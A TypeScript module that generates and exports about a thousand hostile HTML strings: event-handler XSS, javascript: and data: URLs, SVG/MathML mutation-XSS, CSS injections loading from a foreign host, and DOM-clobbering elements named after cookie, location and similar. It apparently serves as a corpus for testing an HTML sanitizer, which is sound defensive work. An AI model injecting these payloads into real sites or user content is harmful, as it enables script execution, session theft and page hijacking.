import { CARRYING_ADDRESSES, RUNNING_ADDRESSES } from './direcciones.ts';
import { ENCODED, STRUCTURES } from './estructuras.ts';
import {
  ADDRESS_CARRIERS,
  DANGEROUS_TAGS,
  FOREIGN,
  HANDLERS,
  MATH_TAGS,
  RAW_TEXT_TAGS,
  RUN,
  SVG_TAGS,
} from './piezas.ts';

/** Ways to write one handler; `{}` is its name. */
const HANDLER_CARRIERS = [
  `<img src=x {}=${RUN}>`,
  `<p {}="${RUN}" tabindex=1 style="animation:x 1s;transition:color 1s">x</p>`,
  `<a href=/x {}='${RUN}'>x</a>`,
  `<td {}=${RUN}>x</td>`,
  `<figure/{}=${RUN}//><img/src=/uploads/1.jpg/{}=${RUN}>`,
  `<svg {}=${RUN}><rect {}=${RUN} /></svg>`,
  `<math {}=${RUN}><mi {}=${RUN}>x</mi></math>`,
  `<x-y {}=${RUN} autofocus contenteditable>x`,
  `<video {}=${RUN} autoplay><source {}=${RUN} src=x></video>`,
  `<h2 x="\n\n" {}\t=\n"${RUN}">x</h2>`,
];

const handlers = HANDLERS.flatMap((name, i) => {
  const carriers = HANDLER_CARRIERS.map((carrier) =>
    carrier.replaceAll('{}', i % 3 === 2 ? name.toUpperCase() : name),
  );
  return carriers;
});

const rotating = <T>(list: readonly T[], at: number): T => list[at % list.length] as T;

/** Every address in a few carriers, and every carrier with a few addresses, in turn. */
const addresses = [
  ...RUNNING_ADDRESSES.flatMap((address, i) =>
    [0, 1, 2, 3].map((n) => fill(rotating(ADDRESS_CARRIERS, i * 4 + n), address)),
  ),
  ...RUNNING_ADDRESSES.map((address) => fill('<a href="{}">x</a>', address)),
  ...CARRYING_ADDRESSES.flatMap((address, i) =>
    [0, 1, 2].map((n) => fill(rotating(ADDRESS_CARRIERS, i * 3 + n), address)),
  ),
  ...CARRYING_ADDRESSES.flatMap((address) =>
    ['<img src="{}">', '<a href="{}">x</a>'].map((carrier) => fill(carrier, address)),
  ),
  ...ADDRESS_CARRIERS.flatMap((carrier) =>
    [`javascript:${RUN}`, `//${FOREIGN}/x`, `data:text/html,<script>${RUN}</script>`].map((address) =>
      fill(carrier, address),
    ),
  ),
];

function fill(carrier: string, address: string): string {
  return carrier.replaceAll('{}', address);
}

const INSIDE = [`<script>${RUN}</script>`, `<img src=x onerror=${RUN}>`, `${RUN}`];
const tags = DANGEROUS_TAGS.flatMap((tag) => [
  ...INSIDE.map((inside) => `<${tag}>${inside}</${tag}>`),
  `<${tag} src=//${FOREIGN}/x href=//${FOREIGN}/x data=//${FOREIGN}/x onload=${RUN} onerror=${RUN}>x`,
  `<p><${tag.toUpperCase()}\n><img src=x onerror=${RUN}></${tag}></p>`,
]);

const foreign = [
  ...SVG_TAGS.map((tag) => ['svg', tag] as const),
  ...MATH_TAGS.map((tag) => ['math', tag] as const),
].flatMap(([root, tag]) => [
  `<${root}><${tag} href="javascript:${RUN}" onload=${RUN} onbegin=${RUN} begin=0s>${INSIDE[0]}</${tag}></${root}>`,
  `<${root}><${tag}><style><img src=x onerror=${RUN}></style></${tag}></${root}>`,
  `<${root}></p><${tag}><p><style><!--</style><img src=x onerror=${RUN}>--></style>`,
]);

/** HTML inside text inside another namespace: read as text once, as elements the next time. */
const mutations = [
  'svg',
  'math',
  'math><mtext',
  'svg><foreignObject',
  'svg><desc',
  'svg><title',
  'math><annotation-xml encoding="text/html"',
  'math><mtext><table><mglyph',
  'math><mi><table><malignmark',
  'form><math><mtext></form><form><mglyph',
  'select',
  'table><svg',
  'noscript',
  'p><svg',
].flatMap((opened) =>
  RAW_TEXT_TAGS.flatMap((raw) => [
    `<${opened}><${raw}><a title="</${raw}><img src=x onerror=${RUN}>">x</a></${raw}>`,
    `<${opened}><${raw}><!--</${raw}><img title="--&gt;&lt;img src=x onerror=${RUN}&gt;"></${raw}>`,
  ]),
);

const STYLES = [
  'background:url(//{}/x)',
  "background-image:url('javascript:{R}')",
  'width:expression({R})',
  '-moz-binding:url(//{}/x#x)',
  'behavior:url(//{}/x)',
  '@import "//{}/x"',
  'list-style:url(//{}/x)',
  'content:url(//{}/x)',
  'cursor:url(//{}/x),auto',
  'position:fixed;inset:0;z-index:9',
  'b\\61ckground:url(//{}/x)',
  'background:u\\72l(//{}/x)',
  'back/**/ground:url(//{}/x)',
  'x:&#117;rl(//{}/x)',
  'mask:url(//{}/x#a)',
  'filter:url(//{}/x#a)',
  'src:url(//{}/x)',
  'background:image-set("//{}/x" 1x)',
  '--a:url(//{}/x);background:var(--a)',
].map((css) => css.replaceAll('{R}', RUN).replaceAll('{}', FOREIGN));
const styles = STYLES.flatMap((css) => [
  `<p style="${css.replaceAll('"', '&quot;')}">x</p>`,
  `<img src=/uploads/1.jpg style='${css}'>`,
  `<style>*{${css}}</style>`,
  `<style>${css}`,
  `<svg><style>*{${css}}</style></svg>`,
  `<table style="${css.replaceAll('"', '')}"><tr><td style="${css.replaceAll('"', '')}">x</td></tr></table>`,
]);

/** Names under which an element would stand in the way of the site's own scripts. */
const CLOBBERED = [
  'location',
  'document',
  'cookie',
  'body',
  'head',
  'forms',
  'attributes',
  'childNodes',
  'nodeName',
  'parentNode',
  'innerHTML',
  'localStorage',
  'fetch',
  'alert',
  'onerror',
  '__proto__',
  'constructor',
  'toString',
  'defaultView',
  'currentScript',
  'getElementById',
  'querySelector',
  'createElement',
  'ownerDocument',
  'submit',
  'action',
];
const clobbering = CLOBBERED.flatMap((name) => [
  `<img src=/uploads/1.jpg id=${name} name=${name}>`,
  `<a id=${name} name=${name} href="https://${FOREIGN}/${name}">x</a>`,
  `<form id=${name}><input name=${name} id=x></form>`,
]);

/** Some thousand pieces of hostile HTML, built class by class; each is there once. */
export const VECTORS: readonly string[] = [
  ...new Set([
    ...handlers,
    ...addresses,
    ...tags,
    ...foreign,
    ...mutations,
    ...styles,
    ...clobbering,
    ...STRUCTURES,
    ...ENCODED,
  ]),
];
